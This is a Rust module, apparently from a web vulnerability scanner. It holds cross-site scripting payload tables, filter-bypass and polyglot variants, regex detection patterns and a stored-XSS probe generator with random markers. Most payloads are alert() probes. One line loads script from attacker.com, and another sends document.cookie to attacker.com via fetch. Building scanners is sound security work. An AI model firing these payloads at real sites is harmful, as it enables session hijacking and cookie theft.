//! XSS payload tables and the correlation-payload generator.

use once_cell::sync::Lazy;
use rand::distributions::Alphanumeric;
use rand::{thread_rng, Rng};
use regex::Regex;

pub const BASIC_XSS: &[&str] = &[
    "<script>alert('XSS')</script>",
    "<script>alert(1)</script>",
    "<script>alert(document.domain)</script>",
    "<script>alert(document.cookie)</script>",
    "<img src=x onerror=alert('XSS')>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert('XSS')>",
    "<svg onload=alert(1)>",
    "<body onload=alert('XSS')>",
    "<iframe src=javascript:alert('XSS')>",
    "<input type='text' onfocus=alert('XSS') autofocus>",
    "<marquee onstart=alert('XSS')>",
    "<details open ontoggle=alert('XSS')>",
];

pub const EVENT_HANDLER_XSS: &[&str] = &[
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<body onload=alert(1)>",
    "<input onfocus=alert(1) autofocus>",
    "<select onfocus=alert(1) autofocus>",
    "<textarea onfocus=alert(1) autofocus>",
    "<keygen onfocus=alert(1) autofocus>",
    "<video onerror=alert(1)><source>",
    "<audio onerror=alert(1)><source>",
    "<details ontoggle=alert(1) open>",
    "<marquee onstart=alert(1)>",
    "<div onmouseover=alert(1)>test</div>",
    "<span onmouseover=alert(1)>test</span>",
];

pub const SCRIPT_BASED_XSS: &[&str] = &[
    "<script>alert(1)</script>",
    "<script>alert(String.fromCharCode(88,83,83))</script>",
    "<script>alert(document.domain)</script>",
    "<script>alert(window.origin)</script>",
    "<script src='http://attacker.com/evil.js'></script>",
    "<script>eval(atob('YWxlcnQoMSk='))</script>",
    "<script>fetch('http://attacker.com?cookie='+document.cookie)</script>",
];

/// Case variation, encoding, nesting and alternative-tag filter bypasses.
pub const BYPASS_XSS: &[&str] = &[
    "<ScRiPt>alert(1)</sCrIpT>",
    "<IMG SRC=x ONERROR=alert(1)>",
    "<script>&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;</script>",
    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=1 onerror=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<object data=javascript:alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><script>alert(1)</script></math>",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "%3Cimg%20src=x%20onerror=alert(1)%3E",
    "%253Cscript%253Ealert(1)%253C/script%253E",
    "\u{003C}script\u{003E}alert(1)\u{003C}/script\u{003E}",
];

pub const ATTRIBUTE_XSS: &[&str] = &[
    "' onclick='alert(1)",
    "\" onclick=\"alert(1)",
    "' onfocus='alert(1)' autofocus='",
    "\" onfocus=\"alert(1)\" autofocus=\"",
    "' onmouseover='alert(1)",
    "\" onmouseover=\"alert(1)",
];

pub const JS_CONTEXT_XSS: &[&str] = &[
    "';alert(1);//",
    "\";alert(1);//",
    "';alert(String.fromCharCode(88,83,83));//",
    "</script><script>alert(1)</script>",
];

pub const HTML_CONTEXT_XSS: &[&str] = &[
    "<img src=x onerror=alert(1)>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
];

/// Payloads designed to fire in multiple contexts at once.
pub const POLYGLOT_XSS: &[&str] = &[
    "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
    "'\"><img src=x onerror=alert(1)>",
    "'><script>alert(1)</script>",
    "\"><script>alert(1)</script>",
];

/// Regexes matching executable-looking markup in a (decoded) response body.
pub static XSS_DETECTION_PATTERNS: Lazy<Vec<Regex>> = Lazy::new(|| {
    [
        r"(?is)<script[^>]*>.*?alert.*?</script>",
        r"(?i)<img[^>]*onerror[^>]*>",
        r"(?i)<svg[^>]*onload[^>]*>",
        r"(?i)<iframe[^>]*src[^>]*javascript:",
        r"(?i)<body[^>]*onload[^>]*>",
        r"(?i)<input[^>]*onfocus[^>]*>",
        r"(?i)<[^>]*on\w+=[^>]*alert",
        r"(?i)javascript:alert",
        r"(?i)onerror=alert",
        r"(?i)onload=alert",
        r"(?i)onfocus=alert",
    ]
    .iter()
    .map(|p| Regex::new(p).expect("static pattern"))
    .collect()
});

/// Bounded subset for quick scans.
pub fn basic_payloads() -> Vec<&'static str> {
    BASIC_XSS
        .iter()
        .chain(EVENT_HANDLER_XSS[..5].iter())
        .copied()
        .collect()
}

/// Every XSS payload across all families.
pub fn all_payloads() -> Vec<&'static str> {
    BASIC_XSS
        .iter()
        .chain(EVENT_HANDLER_XSS)
        .chain(SCRIPT_BASED_XSS)
        .chain(BYPASS_XSS)
        .chain(ATTRIBUTE_XSS)
        .chain(JS_CONTEXT_XSS)
        .chain(HTML_CONTEXT_XSS)
        .chain(POLYGLOT_XSS)
        .copied()
        .collect()
}

/// Alerting construct the correlation marker is embedded in.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum CorrelationVariant {
    Script,
    Img,
    Svg,
}

/// Length of a correlation marker in alphanumeric characters. 22 characters
/// of base-62 carry just over 128 bits, enough that collisions across a
/// long-running scanner are negligible.
const MARKER_LEN: usize = 22;

fn random_marker() -> String {
    thread_rng()
        .sample_iter(&Alphanumeric)
        .take(MARKER_LEN)
        .map(char::from)
        .collect()
}

/// Generate a stored-XSS probe payload embedding a fresh random marker.
/// Returns `(payload, marker)`; the marker is later searched for in re-fetched
/// pages to correlate a stored observation back to this submission.
pub fn correlation_payload(variant: CorrelationVariant) -> (String, String) {
    let marker = random_marker();
    let payload = match variant {
        CorrelationVariant::Script => format!("<script>alert('XSS-{marker}')</script>"),
        CorrelationVariant::Img => format!("<img src=x onerror=alert('XSS-{marker}')>"),
        CorrelationVariant::Svg => format!("<svg onload=alert('XSS-{marker}')>"),
    };
    (payload, marker)
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::collections::HashSet;

    #[test]
    fn correlation_markers_do_not_collide() {
        let mut seen = HashSet::new();
        for _ in 0..10_000 {
            let (payload, marker) = correlation_payload(CorrelationVariant::Script);
            assert_eq!(marker.len(), MARKER_LEN);
            assert!(payload.contains(&marker));
            assert!(seen.insert(marker), "duplicate marker drawn");
        }
    }

    #[test]
    fn variants_embed_marker_in_alerting_construct() {
        let (img, m1) = correlation_payload(CorrelationVariant::Img);
        assert!(img.starts_with("<img") && img.contains(&m1));
        let (svg, m2) = correlation_payload(CorrelationVariant::Svg);
        assert!(svg.starts_with("<svg") && svg.contains(&m2));
    }

    #[test]
    fn detection_patterns_compile_and_match() {
        assert!(XSS_DETECTION_PATTERNS
            .iter()
            .any(|p| p.is_match("<IMG SRC=x ONERROR=alert(1)>")));
        assert!(XSS_DETECTION_PATTERNS
            .iter()
            .any(|p| p.is_match("<a href=\"javascript:alert(1)\">x</a>")));
    }

    #[test]
    fn basic_subset_is_bounded() {
        assert_eq!(basic_payloads().len(), BASIC_XSS.len() + 5);
    }
}
